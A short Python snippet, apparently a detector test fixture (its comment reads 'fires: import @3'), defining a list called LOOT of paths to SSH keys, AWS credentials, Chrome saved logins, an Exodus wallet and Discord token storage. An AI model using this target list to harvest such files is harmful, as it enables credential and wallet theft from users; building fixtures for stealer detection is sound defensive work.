import os
LOOT = [  # fires: import @3
    os.path.expanduser("~/.ssh/id_rsa"),
    os.path.expanduser("~/.aws/credentials"),
    "AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
    "AppData\\Roaming\\Exodus\\exodus.wallet",
    "AppData\\Roaming\\discord\\Local Storage\\leveldb",
]
